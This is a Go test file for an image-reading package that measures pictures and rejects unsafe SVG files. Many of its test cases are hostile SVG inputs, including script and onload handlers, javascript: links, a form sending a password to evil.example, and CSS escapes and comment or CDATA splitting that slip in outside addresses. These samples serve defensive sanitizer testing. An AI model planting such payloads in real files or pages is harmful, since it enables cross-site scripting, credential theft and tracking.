package picture

import (
	"bytes"
	"encoding/binary"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func encoded(t *testing.T, encode func(*bytes.Buffer, image.Image) error) []byte {
	t.Helper()
	var b bytes.Buffer
	picture := image.NewPaletted(image.Rect(0, 0, 40, 30), color.Palette{color.Black, color.White})
	if err := encode(&b, picture); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// exif puts an orientation into a JPEG.
func exif(data []byte, order binary.AppendByteOrder, orientation uint16) []byte {
	tiff := []byte("II*\x00")
	if order.String() == "BigEndian" {
		tiff = []byte("MM\x00*")
	}
	u16 := func(n uint16) { tiff = order.AppendUint16(tiff, n) }
	tiff = order.AppendUint32(tiff, 8)
	u16(2) // entries
	u16(0x0110)
	u16(2)
	tiff = order.AppendUint32(tiff, 1)
	tiff = order.AppendUint32(tiff, 0)
	u16(0x0112)
	u16(3)
	tiff = order.AppendUint32(tiff, 1)
	u16(orientation)
	u16(0)
	segment := append([]byte("Exif\x00\x00"), tiff...)
	out := append([]byte{0xff, 0xd8, 0xff, 0xe1}, binary.BigEndian.AppendUint16(nil, uint16(len(segment)+2))...)
	return append(append(out, segment...), data[2:]...)
}

// box is a box of an ISO file.
func box(name, content string) string {
	return string(binary.BigEndian.AppendUint32(nil, uint32(len(content)+8))) + name + content
}

func extents(width, height uint32) string {
	return box("ispe", "\x00\x00\x00\x00"+string(binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, width), height)))
}

func TestRead(t *testing.T) {
	jpg := encoded(t, func(b *bytes.Buffer, p image.Image) error { return jpeg.Encode(b, p, nil) })
	pngs := encoded(t, func(b *bytes.Buffer, p image.Image) error { return png.Encode(b, p) })
	gifs := encoded(t, func(b *bytes.Buffer, p image.Image) error { return gif.Encode(b, p, nil) })
	// The head of a lossless WebP: a signature, then width and height less one in 14
	// bits each.
	webp := "RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f" + string(binary.LittleEndian.AppendUint32(nil, 39|29<<14)) + "\x00\x00\x00\x00\x00\x00\x00\x00"
	avif := box("ftyp", "avif\x00\x00\x00\x00avifmif1")
	svg := func(attributes, inside string) []byte {
		return []byte(`<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><!-- x --><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ` + attributes + `>` + inside + `</svg>`)
	}
	const boxed = `viewBox="0 0 40 30"`
	const xhtml = boxed + ` xmlns:h="http://www.w3.org/1999/xhtml"`
	whole := Size{40, 30}
	for _, tt := range []struct {
		what, name string
		data       []byte
		size       Size
		fault      Fault
	}{
		{"png", "a.png", pngs, whole, ""},
		{"gif", "a.gif", gifs, whole, ""},
		{"jpeg", "a.jpg", jpg, whole, ""},
		{"capital letters", "A.JPEG", jpg, whole, ""},
		{"jpeg as it stands", "a.jpg", exif(jpg, binary.LittleEndian, 1), whole, ""},
		{"jpeg upside down", "a.jpg", exif(jpg, binary.BigEndian, 3), whole, ""},
		{"jpeg on its side", "a.jpg", exif(jpg, binary.LittleEndian, 6), Size{30, 40}, ""},
		{"jpeg on its other side", "a.jpg", exif(jpg, binary.BigEndian, 8), Size{30, 40}, ""},
		{"webp", "a.webp", []byte(webp), whole, ""},
		{"avif", "a.avif", []byte(avif + extents(40, 30)), whole, ""},
		{"avif of tiles", "a.avif", []byte(avif + extents(20, 15) + extents(40, 30)), whole, ""},
		{"avif on its side", "a.avif", []byte(avif + extents(40, 30) + box("irot", "\x01")), Size{30, 40}, ""},
		{"cut off", "a.png", pngs[:20], Size{}, Broken},
		{"empty", "a.gif", nil, Size{}, Broken},
		{"text", "a.jpg", []byte("hello"), Size{}, Broken},
		{"avif without a picture", "a.avif", []byte(avif), Size{}, Broken},
		{"no avif", "a.avif", pngs, Size{}, Broken},
		{"svg by its box", "a.svg", svg(boxed, `<g/>`), whole, ""},
		{"svg by itself", "a.svg", svg(`width="40" height="29.5px" viewBox="0 0 4 3"`, ``), whole, ""},
		{"svg in percent", "a.svg", svg(`width="100%" height="100%" viewBox="0,0,40,30"`, ``), whole, ""},
		{"svg with what is its own", "a.svg", svg(boxed, `<style>.a{fill:url(#g)}</style><use xlink:href="#a"/><image href="data:image/png;base64,AA=="/><a href="https://a.example/"><text>url(x)</text></a>`), whole, ""},
		{"svg without a size", "a.svg", svg(``, ``), Size{}, Sizeless},
		{"svg without height", "a.svg", svg(`viewBox="0 0 40 0"`, ``), Size{}, Sizeless},
		{"svg that ends early", "a.svg", []byte(`<svg viewBox="0 0 4 3">`), Size{}, Broken},
		{"html", "a.svg", []byte(`<html></html>`), Size{}, Broken},
		{"script", "a.svg", svg(boxed, `<g><script href="#a"/></g>`), Size{}, Script},
		{"event", "a.svg", svg(boxed+` onload="alert(1)"`, ``), Size{}, Script},
		{"address that runs", "a.svg", svg(boxed, `<a xlink:href=" JavaScript:alert(1)"/>`), Size{}, Script},
		{"address that is changed", "a.svg", svg(boxed, `<a href="#a"><set attributeName="xlink:href" to="javascript:alert(1)"/></a>`), Size{}, Script},
		{"another page", "a.svg", svg(boxed, `<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>`), Size{}, Page},
		{"picture from elsewhere", "a.svg", svg(boxed, `<image xlink:href="//a.example/b.png"/>`), Size{}, Outside},
		{"picture beside it", "a.svg", svg(boxed, `<image href="b.png"/>`), Size{}, Outside},
		{"svg within an address", "a.svg", svg(boxed, `<image href="data:image/svg+xml;base64,AA=="/>`), Size{}, Outside},
		{"style from elsewhere", "a.svg", svg(boxed, `<style>@import "a.css";</style>`), Size{}, Outside},
		{"font from elsewhere", "a.svg", svg(boxed, `<style>@font-face{src: URL( 'https://a.example/b' )}</style>`), Size{}, Outside},
		{"filter from elsewhere", "a.svg", svg(boxed, `<g filter="url(https://a.example/#f)"/>`), Size{}, Outside},
		{"form", "a.svg", svg(xhtml, `<h:form action="javascript:alert(1)"><h:button>Sign in</h:button></h:form>`), Size{}, Page},
		{"button that runs", "a.svg", svg(xhtml, `<h:form><h:button formaction="javascript:alert(1)">x</h:button></h:form>`), Size{}, Page},
		{"form to elsewhere", "a.svg", svg(xhtml, `<h:form action="https://evil.example/steal"><h:input name="password" type="submit"/></h:form>`), Size{}, Page},
		{"another address", "a.svg", svg(xhtml, `<h:meta http-equiv="refresh" content="0;url=https://evil.example/m"/>`), Size{}, Page},
		{"set of pictures", "a.svg", svg(xhtml, `<h:img srcset="https://evil.example/s 1x"/>`), Size{}, Page},
		{"form by its own namespace", "a.svg", svg(boxed, `<metadata><form xmlns="http://www.w3.org/1999/x&#104;tml" action="https://evil.example/"/></metadata>`), Size{}, Page},
		{"formula that leads elsewhere", "a.svg", svg(boxed, `<math xmlns="http://www.w3.org/1998/Math/MathML" href="#a"/>`), Size{}, Page},
		{"page under the name of a picture", "a.svg", []byte(`<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 4 3"/>`), Size{}, Broken},
		{"script by a prefix", "a.svg", svg(boxed+` xmlns:s="http://www.w3.org/2000/svg"`, `<s:script>alert(1)</s:script>`), Size{}, Script},
		{"what no picture has", "a.svg", svg(boxed, `<video/>`), Size{}, Script},
		{"ping", "a.svg", svg(boxed, `<a href="#a" ping="https://evil.example/"/>`), Size{}, Outside},
		{"set of pictures in a style", "a.svg", svg(boxed, `<style>rect{mask-image:image-set('https://evil.example/1' 1x)}</style>`), Size{}, Outside},
		{"set of pictures of one browser", "a.svg", svg(boxed, `<rect style="mask-image:-webkit-ima\67 e-set('https://evil.example/1' 1x)"/>`), Size{}, Outside},
		{"address with an escape", "a.svg", svg(boxed, `<style>rect{mask-image:\75rl(https://evil.example/2)}</style>`), Size{}, Outside},
		{"address with a long escape", "a.svg", svg(boxed, `<style>rect{mask-image:ur\00006C(https://evil.example/2)}</style>`), Size{}, Outside},
		{"address behind an escape", "a.svg", svg(boxed, `<style>rect{mask-image:url(\22#/../b)}</style>`), Size{}, Outside},
		{"address in a line that goes on", "a.svg", svg(boxed, "<style>rect{mask-image:url('\\\n//evil.example/')}</style>"), Size{}, Outside},
		{"address between comments of strings", "a.svg", svg(boxed, `<style>a{content:"/*"}rect{mask-image:url(//evil.example/)}a{content:"*/"}</style>`), Size{}, Outside},
		{"import around a comment", "a.svg", svg(boxed, `<style>@im<!-- x -->port 'https://evil.example/3';</style>`), Size{}, Outside},
		{"import in pieces", "a.svg", svg(boxed, `<style>@im<![CDATA[po]]>rt 'https://evil.example/3';</style>`), Size{}, Outside},
		{"import around an element", "a.svg", svg(boxed, `<style>@im<g>x</g>port 'https://evil.example/3';</style>`), Size{}, Script},
		{"import with an escape", "a.svg", svg(boxed, `<style>@\69mport 'https://evil.example/4';</style>`), Size{}, Outside},
		{"escape in an attribute", "a.svg", svg(boxed, `<rect style="mask-image:u\72l(https://evil.example/5)"/>`), Size{}, Outside},
		{"style that is changed", "a.svg", svg(boxed, `<set attributeName="filter" to="url(https://evil.example/#f)"/>`), Size{}, Outside},
		{"style sheet", "a.svg", []byte(`<?xml-stylesheet href="a.css"?>` + string(svg(boxed, ``))[38:]), Size{}, Outside},
		{"entities", "a.svg", []byte(`<!DOCTYPE svg [<!ENTITY a "b">]><svg viewBox="0 0 4 3"/>`), Size{}, Outside},
	} {
		if size, fault := Read(tt.name, tt.data); size != tt.size || fault != tt.fault {
			t.Errorf("%s: %v, %q; want %v, %q", tt.what, size, fault, tt.size, tt.fault)
		}
	}
	for name, want := range map[string]bool{"a.png": true, "A.JPG": true, "a.svg": true, "a.bmp": false, "a.heic": false, "png": false, "a.png.txt": false} {
		if Is(name) != want {
			t.Errorf("Is(%q) = %v", name, !want)
		}
	}
}

// What drawing programs write is a picture, as far as it holds nothing else.
func TestExports(t *testing.T) {
	files, err := filepath.Glob("testdata/exports/*.svg")
	if err != nil || len(files) < 6 {
		t.Fatalf("%d files, %v", len(files), err)
	}
	for _, name := range files {
		data, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		want := Fault("")
		if strings.Contains(name, "-html") {
			want = Page
		}
		if size, fault := Read(name, data); fault != want || (size == Size{}) != (want != "") {
			t.Errorf("%s: %v, %q; want %q", name, size, fault, want)
		}
	}
}

// Whatever is in a file, it is read or refused.
func FuzzRead(f *testing.F) {
	f.Add("a.avif", []byte(box("ftyp", "avif")+extents(4, 3)))
	f.Add("a.jpg", []byte("\xff\xd8\xff\xe1\x00\x10Exif\x00\x00II*\x00\x08\x00\x00\x00"))
	f.Add("a.svg", []byte(`<svg viewBox="0 0 4 3"/>`))
	f.Add("a.svg", []byte(`<?xml version="1.0" encoding="us-ascii"?><svg viewBox="0 0 4 3"><style>a{mask:\75 rl("\22#a")}<!-- x --></style><rect style="mask:\"/></svg>`))
	f.Fuzz(func(t *testing.T, name string, data []byte) {
		if size, fault := Read(name, data); (fault == "") != (size.Width > 0 && size.Height > 0) {
			t.Errorf("%v, %q", size, fault)
		}
	})
}
